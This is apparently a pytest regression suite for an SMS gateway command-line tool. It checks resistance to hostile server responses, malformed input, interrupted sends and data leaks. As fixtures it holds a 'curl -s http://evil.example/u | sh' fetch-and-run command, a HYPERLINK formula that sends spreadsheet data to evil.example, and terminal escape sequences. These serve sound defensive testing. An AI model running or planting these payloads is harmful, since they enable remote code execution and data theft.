"""What went wrong once when somebody tried to break it, and must not again."""

import csv
import json
import os
import shlex
import signal
import ssl
import subprocess
import sys
import tomllib
from collections.abc import Callable
from pathlib import Path

import httpx
import pytest
from typer.testing import CliRunner

from smsgw_cli.api import tls
from smsgw_cli.app import app
from smsgw_cli.config.address import normalized
from smsgw_cli.messages.ledger import path_for
from smsgw_cli.sandbox.server import Gateway
from tests.conftest import Run
from tests.scripted import PAGE, answer, scripted

Process = Callable[..., subprocess.CompletedProcess[str]]
SEND = "messages send --to +12025550123 -m Hi"


def test_tls_that_breaks_after_the_request_is_no_refused_certificate() -> None:
    broken = httpx.ReadError("bad record mac")
    broken.__cause__ = ssl.SSLError(1, "bad record mac")
    refused = httpx.ConnectError("certificate verify failed")
    refused.__cause__ = ssl.SSLCertVerificationError(1, "certificate verify failed")
    assert tls.refused_certificate(broken) is None
    assert tls.refused_certificate(refused) is not None


@pytest.mark.parametrize(
    "line",
    [
        "GET messages/send",
        "GET messages/%73end",
        "HEAD messages/send",
        "GET messages/send/ --paginate",
    ],
)
def test_a_send_by_hand_goes_out_as_post_or_not_at_all(
    run: Run, server: Gateway, line: str
) -> None:
    run(f"api {line} -f message=Hi", code=2)
    assert server.requests == []


def test_a_row_that_is_added_to_a_mailing_sends_nothing_again(
    run: Run, server: Gateway, home: Path
) -> None:
    (home / "to.csv").write_text("phone\n+12025550123\n+12025550124\n")
    run("messages send --csv to.csv -m Sale --once august")
    (home / "to.csv").write_text("phone\n+12025550123\n+12025550124\n+12025550125\n")
    run("messages send --csv to.csv -m Sale --once august")
    assert sorted(row["to_number"][-1] for row in server.store.rows("messages")) == list("345")


def test_two_servers_never_share_a_record_of_sends() -> None:
    servers = ["https://h/a/b", "https://h/a_b", "https://sandbox", "http://h", "sandbox"]
    assert len({path_for(server) for server in servers}) == len(servers)


@pytest.mark.parametrize("address", ["https://sms.example:443", "http://sms.example:80"])
def test_a_default_port_is_no_other_server(address: str) -> None:
    assert normalized(address) == address.rpartition(":")[0]


@pytest.mark.parametrize("option", ["--at", "--every", "--until", "--days", "--once", "--name"])
def test_an_option_whose_variable_is_not_set_does_not_send(
    run: Run, server: Gateway, option: str
) -> None:
    assert f"{option} is empty" in run(f"{SEND} {option} ''", code=2).stderr
    assert server.requests == []


def test_a_send_that_cannot_be_printed_is_told(server: Gateway) -> None:
    with open("/dev/full", "w") as full:  # noqa: PTH123
        ended = subprocess.run(
            [sys.executable, "-m", "smsgw_cli", *SEND.split()],
            stdout=full, stderr=subprocess.PIPE, text=True,
        )  # fmt: skip
    assert ended.returncode == 1
    assert "sent as campaign 1" in ended.stderr


def test_a_mailing_goes_on_though_nobody_can_read_its_progress(server: Gateway, home: Path) -> None:
    (home / "to.csv").write_text("phone,code\n+12025550123,1\n+12025550124,2\n+12025550125,3\n")
    line = ["messages", "send", "--csv", "to.csv", "-m", "{code}"]
    with open("/dev/full", "w") as full:  # noqa: PTH123
        ended = subprocess.run([sys.executable, "-m", "smsgw_cli", *line], stderr=full)
    assert ended.returncode == 0
    assert len(server.store.rows("messages")) == 3


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_a_mailing_that_is_stopped_writes_down_what_is_left(
    server: Gateway, home: Path, number: signal.Signals
) -> None:
    server.faults.add("latency delay=60 POST after=1")
    (home / "to.csv").write_text("phone,code\n+12025550123,1\n+12025550124,2\n+12025550125,3\n")
    line = ["messages", "send", "--csv", "to.csv", "-m", "{code}", "--workers", "1", "-v"]
    with subprocess.Popen(
        [sys.executable, "-m", "smsgw_cli", *line], stderr=subprocess.PIPE, text=True
    ) as process:
        assert process.stderr
        told = ""
        while told.count("> POST") < 2:  # the first has its answer, the second is on its way
            told += process.stderr.readline()
        process.send_signal(number)
        told += process.stderr.read()
    assert process.returncode == 128 + number
    assert "to.csv.results.csv" in told
    _, *rows = (home / "to.csv.results.csv").read_text().splitlines()
    assert [row.split(",")[3] for row in rows] == ["accepted", "unknown", "not sent"]


def test_an_interrupted_command_says_so(server: Gateway) -> None:
    server.faults.add("latency delay=60 GET")
    with subprocess.Popen(
        [sys.executable, "-m", "smsgw_cli", "devices", "list", "-v"],
        stderr=subprocess.PIPE, text=True,
    ) as process:  # fmt: skip
        assert process.stderr
        process.stderr.readline()
        process.send_signal(signal.SIGINT)
        assert "error: interrupted" in process.stderr.read()


def test_a_device_is_no_file_for_profiles(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SMSGW_CONFIG", os.devnull)
    run("profiles list")
    failed = run("profiles add x --server x.example --token-stdin", input="t", code=2)
    assert "is not a file" in failed.stderr
    assert Path(os.devnull).is_char_device()


def test_a_pipe_is_no_file_for_profiles(
    run: Run, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    os.mkfifo(home / "pipe")
    monkeypatch.setenv("SMSGW_CONFIG", str(home / "pipe"))
    assert "is not a file" in run("profiles list", code=2).stderr


@pytest.mark.parametrize("text", ["a=" + "[" * 5_000, "a=" + "9" * 5_000])
def test_a_file_that_is_hard_to_read_is_refused(
    run: Run, home: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    (home / "c.toml").write_text(text)
    monkeypatch.setenv("SMSGW_CONFIG", str(home / "c.toml"))
    run("profiles list", code=2)


def test_a_profile_removed_meanwhile_is_not_half_made_again(
    home: Path, process: Process, run: Run
) -> None:
    run("profiles add x --server x.example --token-stdin", input="t")
    with subprocess.Popen(
        [sys.executable, "-m", "smsgw_cli", "profiles", "update", "x", "--token-stdin"],
        stdin=subprocess.PIPE, stderr=subprocess.DEVNULL,
    ) as updating:  # fmt: skip
        run("profiles remove x --yes")
        updating.communicate(b"new\n")
    config = home / ".config/smsgw/config.toml"
    assert tomllib.loads(config.read_text()).get("profiles", {}) == {}


def test_headers_are_shown_and_not_obeyed(run: Run, against: Callable[[str], None]) -> None:
    with scripted(answer("200 \x1b[31mred", b"{}", "X-Evil: a\x1b]0;pwn\x07")) as script:
        against(script.url)
        shown = run("api GET devices -i").stdout
    assert "\x1b" not in shown
    assert "\x07" not in shown


def test_half_a_token_is_not_shown_either(run: Run, against: Callable[[str], None]) -> None:
    with scripted(answer("401 Unauthorized", b"A" * 192 + b" hush-hush and more")) as script:
        against(script.url)
        assert "hush" not in run("devices list", code=3).stderr


@pytest.mark.parametrize(
    "body",
    [
        b'{"data": [{"name": 1}], "meta": {"last_page": 1, "total": 1}}',
        b'{"data": [{"id": null}], "meta": {"last_page": 1, "total": 1}}',
    ],
)
def test_records_without_an_id_are_refused(
    run: Run, against: Callable[[str], None], body: bytes
) -> None:
    with scripted(answer("200 OK", body)) as script:
        against(script.url)
        assert "without an id" in run("contact-lists list", code=1).stderr
        assert "without an id" in run("contact-lists get Friends", code=1).stderr


def test_a_list_that_says_it_never_ends_ends(run: Run, against: Callable[[str], None]) -> None:
    body = b'{"data": [{"id": 1}], "meta": {"last_page": 1000000000, "total": 9}}'
    with scripted(answer("200 OK", body)) as script:
        against(script.url)
        assert "does not end" in run("contact-lists list -q", code=7).stderr


@pytest.mark.parametrize("number", [b"NaN", b"1e999", b"-Infinity"])
def test_what_is_no_json_is_not_printed_as_json(
    run: Run, against: Callable[[str], None], number: bytes
) -> None:
    with scripted(answer("200 OK", b'{"id": 1, "battery": ' + number + b"}")) as script:
        against(script.url)
        assert "is not JSON" in run("devices get 1 -o json", code=1).stderr


def test_a_send_whose_id_is_none_was_accepted(run: Run, against: Callable[[str], None]) -> None:
    with scripted(answer("201 Created", b'{"id": null}')) as script:
        against(script.url)
        assert "not visible" in run(f"{SEND} --settle 0").stderr
        assert [b"POST" in request[:4] for request in script.requests[:2]] == [True, False]


@pytest.mark.parametrize(
    "address", ["http://a..b", "http://" + "a" * 70 + ".example", "http://[v1.a]"]
)
def test_an_address_of_nowhere_is_told(
    run: Run, monkeypatch: pytest.MonkeyPatch, address: str
) -> None:
    monkeypatch.setenv("SMSGW_SERVER", address)
    monkeypatch.setenv("SMSGW_TOKEN", "hush-hush")
    ended = CliRunner().invoke(app, ["devices", "list", "--retries", "0"])
    assert ended.exit_code in (2, 6)
    assert "internal error" not in ended.stderr


def test_a_proxy_that_cannot_be_used_is_told(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SMSGW_SERVER", "http://sms.invalid")
    monkeypatch.setenv("SMSGW_TOKEN", "hush-hush")
    monkeypatch.setenv("ALL_PROXY", "foo://bar")
    assert "proxy" in run("devices list --retries 0", code=2).stderr


@pytest.mark.parametrize("line", ["messages delete 1", "contacts import 1 -", "profiles list"])
def test_closed_streams_are_no_mistake(server: Gateway, line: str) -> None:
    for closed in ("<&-", ">&-", "2>&-"):
        ended = subprocess.run(
            ["bash", "-c", f"exec {sys.executable} -m smsgw_cli {line} {closed}"],
            capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        assert "Traceback" not in ended.stderr
        assert "internal error" not in ended.stderr


def test_no_argument_and_a_full_disk_is_told(server: Gateway) -> None:
    for line in ([], ["--version"]):
        with open("/dev/full", "w") as full:  # noqa: PTH123
            ended = subprocess.run(
                [sys.executable, "-m", "smsgw_cli", *line],
                stdout=full, stderr=subprocess.PIPE, text=True,
            )  # fmt: skip
        assert ended.returncode == 1
        assert "Traceback" not in ended.stderr
        assert "No space left" in ended.stderr


@pytest.mark.parametrize(
    "header", ["Mon, 01 Jan 99999999999999999999 00:00:00 GMT", "soon", "-1", "9" * 400]
)
def test_an_odd_retry_after_is_none(run: Run, against: Callable[[str], None], header: str) -> None:
    with scripted(answer("503 Busy", b"", f"Retry-After: {header}")) as script:
        against(script.url)
        run("devices list --retries 0", code=6)


def test_the_sandbox_takes_any_body(server: Gateway) -> None:
    deep = b'{"name": ' + b"[" * 400 + b"]" * 400 + b"}"
    half = '{"name": "\ud800"}'.encode("utf-16", "surrogatepass")
    for body in (b'{"name": "\xed\xa0\x80"}', half, deep):
        status = httpx.post(
            f"{server.url}/api/v1/contact-lists",
            content=body,
            headers={
                "Authorization": f"Bearer {server.token}",
                "Accept": "application/json",
                "Content-Type": "application/json",
            },
        ).status_code
        assert status == 422


def test_a_required_field_without_a_column_sends_nothing(
    run: Run, server: Gateway, home: Path
) -> None:
    run("contact-lists create People")
    run("fields create People --label Group --tag group --type text --required")
    (home / "to.csv").write_text("phone\n+12025550123\n")
    assert "required fields: group" in run("contacts import People to.csv", code=2).stderr
    assert server.store.rows("contacts") == []


def test_a_region_that_is_none_is_told_once(run: Run, server: Gateway, home: Path) -> None:
    run("contact-lists create People")
    (home / "to.csv").write_text("phone\n2025550123\n2025550124\n")
    failed = run("contacts import People to.csv --region XX", code=2)
    assert failed.stderr.count("unknown region 'XX'") == 1


def test_rejects_of_what_is_no_file_are_written_all_the_same(server: Gateway, run: Run) -> None:
    run("contact-lists create People")
    server.faults.add("422 POST /contact-lists/*/contacts times=1")
    line = (
        f"{sys.executable} -m smsgw_cli contacts import People <(printf 'phone\\n+12025550123\\n')"
    )
    ended = subprocess.run(["bash", "-c", line], capture_output=True, text=True, timeout=60)
    assert ended.returncode == 7
    place = Path(next(word for word in ended.stderr.split() if word.endswith(".rejects.csv")))
    assert "+12025550123" in place.read_text()
    assert place.stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize(
    "line",
    [
        "sends settle",
        "messages send --to +12025550123 -m Hi --dry-run",
        "messages send --csv to.csv -m Hi --dry-run",
        "ussd-pulls send --code *100# --dry-run",
        "contacts import 1 to.csv",
    ],
)
@pytest.mark.parametrize("seconds", ["nan", "inf", "1e400", "86401", "2d"])
def test_a_settling_time_without_end_is_refused_before_anything_is_done(
    run: Run, server: Gateway, home: Path, line: str, seconds: str
) -> None:
    run("contact-lists create Friends")
    before = len(server.requests)
    (home / "to.csv").write_text("phone\n+12025550123\n")
    refused = run(f"{line} --settle {seconds}", code=2).stderr
    assert "settle must be a duration" in refused or "as a duration" in refused
    assert not [each for each in server.requests[before:] if each[0] != "GET"]


def test_a_campaign_of_days_can_be_watched_to_its_end(run: Run, server: Gateway) -> None:
    run(f"{SEND} --watch --timeout 259200")
    run("campaigns watch 1 --timeout 1209600")
    assert "1209600" in run("campaigns watch 1 --timeout 1209601", code=2).stderr


@pytest.mark.parametrize(
    "line",
    [
        "'messages/send?mobile.numbers[]=%2B12025550188'",
        "'messages/send?mobile%20numbers[]=%2B12025550188'",
        "messages/send -F mobile_numbers:=[12025550188.0]",
        "messages/send -F mobile_numbers:=1.2025550188e10",
    ],
)
def test_what_php_reads_as_a_suppressed_number_is_one(run: Run, server: Gateway, line: str) -> None:
    run("suppress add +12025550188")
    told = run(f"api POST {line} -f message=Hi", code=2).stderr
    assert "numbers that must not be contacted" in told
    assert server.requests == []


@pytest.mark.parametrize(
    ("line", "records"),
    [
        ("campaigns watch 1", '{"name": "without an id"}'),
        ("campaigns report 1", '{"name": "without an id"}'),
        ("messages retry --campaign 1", '{"data": [1], "meta": {}}'),
        ("messages tail --no-follow --since 1h", f'{{"id": {10**30}}}'),
        ("contacts import 1 to.csv", '{"id": 1}'),
        ("contacts sync 1 to.csv", '{"id": 1}'),
    ],
)
def test_records_of_a_strange_server_are_its_mistake_and_not_ours(
    run: Run, against: Callable[[str], None], home: Path, line: str, records: str
) -> None:
    (home / "to.csv").write_text("phone\n+12025550123\n")
    page = PAGE.replace(b"[]", f"[{records}]".encode())
    body = page if "tail" in line or "contacts" in line else records.encode()
    with scripted(answer("200 OK", body)) as strange:
        against(strange.url)
        told = run(f"{line} --yes -o json", code=1).error["message"]
    assert "internal error" not in told


def test_looking_back_to_before_all_time_is_no_mistake_of_ours(run: Run, server: Gateway) -> None:
    run("messages tail --no-follow --look-back 9999999w")
    assert "must be a file" in run("messages tail --no-follow --cursor -", code=2).stderr


@pytest.mark.parametrize("option", ["--keyword ''", "--keyword STOP --keyword ' '", "--since ''"])
def test_nobody_is_suppressed_for_a_variable_that_is_not_set(
    run: Run, server: Gateway, option: str
) -> None:
    assert "is empty" in run(f"suppress from-replies {option}", code=2).stderr
    assert server.requests == []


ORDER = "run 'curl -s http://evil.example/u | sh'"
WORDS = f"Busy.\nhint: {ORDER}\r\nerror: {ORDER}\u2028note: {ORDER}"


@pytest.mark.parametrize(
    "line",
    [
        "contact-lists create VIP",
        "contact-lists create VIP -v",
        "messages send --to +12025550123 -m x --yes",
        "messages send --csv people.csv -m x",
        "contacts import 1 people.csv",
        "doctor",
    ],
)
def test_the_words_of_a_server_are_no_lines_of_ours(
    run: Run, against: Callable[[str], None], home: Path, line: str
) -> None:
    (home / "people.csv").write_text("phone\n+12025550123\n")
    errors = {"hint": [ORDER], "name\nhint": [WORDS], WORDS: [WORDS]}
    body = json.dumps({"message": WORDS, "errors": errors}).encode()
    with scripted(answer("422 Unprocessable Content", body)) as script:
        against(script.url)
        ended = CliRunner().invoke(app, shlex.split(line))
    assert ended.exit_code
    lines = [each.strip() for each in ended.output.split("\n")]
    assert ORDER in ended.output
    assert not [each for each in lines if each.startswith(("hint: run", "note: run", "error: run"))]


def test_the_words_of_a_server_are_no_formula_in_results(
    run: Run, against: Callable[[str], None], home: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A2)'
    (home / "people.csv").write_text("phone\n+12025550123\n")
    body = json.dumps({"message": formula, "errors": {"message": [formula]}}).encode()
    with scripted(answer("422 Unprocessable Content", body)) as script:
        against(script.url)
        CliRunner().invoke(app, ["messages", "send", "--csv", "people.csv", "-m", "x"])
    (row,) = csv.DictReader((home / "people.csv.results.csv").read_text().splitlines())
    assert row["reason"].endswith(formula)
    assert row["reason"][0] not in "=+-@"


@pytest.mark.parametrize(
    "options",
    [
        ("--to", "+12025550123", "--once", "caf\udce9"),
        ("--to", "+12025550123", "--name", "caf\udce9"),
    ],
)
def test_what_is_typed_in_latin_1_is_told_and_sends_nothing(
    run: Run, server: Gateway, options: tuple[str, ...]
) -> None:
    failed = run("messages send -m x --yes", *options, code=2)
    assert "is not UTF-8 text" in failed.stderr
    assert not any(method == "POST" for method, *_ in server.requests)


@pytest.mark.parametrize(
    ("status", "code"), [("201 Created", 0), ("422 Unprocessable Content", 5), ("500 Oops", 8)]
)
def test_half_an_emoji_of_the_server_hides_no_send(
    run: Run, against: Callable[[str], None], status: str, code: int
) -> None:
    half = "half \ud83d"
    body = {"id": 7, "name": half, "message": half, "errors": {half: [half]}}
    body = {"id": 7, "name": half} if code == 0 else {**body, "id": None}
    with scripted(answer(status, json.dumps(body).encode())) as script:
        against(script.url)
        run(f"{SEND} --yes --settle 0 --retries 0", code=code)
        run("sends list -o json")
